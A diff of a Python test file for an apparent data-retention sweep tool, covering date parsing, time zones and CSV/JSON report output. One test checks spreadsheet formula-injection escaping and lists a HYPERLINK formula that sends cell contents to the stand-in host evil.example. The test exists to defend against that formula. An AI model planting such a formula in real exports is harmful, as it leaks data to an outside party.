@@ -6,7 +6,7 @@ import csv
 import io
 import json
 import sqlite3
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 from pathlib import Path
 from zoneinfo import ZoneInfo
 
@@ -94,7 +94,7 @@ HELSINKI = ZoneInfo("Europe/Helsinki")
         (" 2023-04-06 ", date(2023, 4, 6)),
         (date(2023, 4, 6), date(2023, 4, 6)),
         (datetime(2023, 4, 6, 23, 30), date(2023, 4, 6)),
-        (datetime(2023, 4, 6, 21, 30, tzinfo=timezone.utc), date(2023, 4, 7)),
+        (datetime(2023, 4, 6, 21, 30, tzinfo=UTC), date(2023, 4, 7)),
         (None, None),
     ],
 )
@@ -306,9 +306,19 @@ def test_time_zones_move_a_date_across_midnight(demo_path: Path) -> None:
     assert [(s.key, s.counted_from) for s in due] == [(13, D("2023-12-30"))]
 
 
+def test_the_days_are_those_of_the_mappings_time_zone(demo_path: Path) -> None:
+    _execute(demo_path, "UPDATE feedback SET given_at = '2023-04-06T22:30:00Z' WHERE client_id = 3")
+    text = demo_path.read_text(encoding="utf-8")
+    demo_path.write_text(text.replace('url = "asiakkaat.sqlite"\n', 'url = "asiakkaat.sqlite"\n'
+                                      'time_zone = "UTC"\n', 1), encoding="utf-8")  # fmt: skip
+    due = by_category(sweep(load_register(demo_path), as_of=D("2025-04-07")))["feedback"].due
+    assert [(s.key, s.counted_from) for s in due] == [(3, D("2023-04-06"))]  # in UTC, the 6th
+
+
 def test_a_declared_format_reads_the_store_as_written(demo_path: Path) -> None:
-    _execute(demo_path, "UPDATE feedback SET given_at = ltrim(strftime('%d', given_at), '0') || "
-             "'.' || ltrim(strftime('%m', given_at), '0') || '.' || strftime('%Y', given_at)")  # fmt: skip
+    day, month = "ltrim(strftime('%d', given_at), '0')", "ltrim(strftime('%m', given_at), '0')"
+    _execute(demo_path, f"UPDATE feedback SET given_at = {day} || '.' || {month} || '.' || "
+             "strftime('%Y', given_at)")  # fmt: skip
     register = load_register(demo_path)
     feedback = by_category(sweep(register, as_of=D("2025-06-01")))["feedback"]
     assert feedback.due == [] and feedback.undecided == 11  # not ISO: nothing is guessed
@@ -419,7 +429,13 @@ def test_csv_keys_are_text_in_a_spreadsheet() -> None:
     report.categories.append(category)
     rows = list(csv.DictReader(io.StringIO(report.to_csv(), newline="")))
     assert [row["subject"] for row in rows] == [
-        '\'=HYPERLINK("http://evil.example/?"&A1)', "'+1", "'@SUM(A1)", "'\tx", "'\rx", "-5", "a-1"
+        '\'=HYPERLINK("http://evil.example/?"&A1)',
+        "'+1",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+        "-5",
+        "a-1",
     ]
     assert json.loads(report.to_json())["categories"][0]["due"][0]["subject"] == keys[0]
 
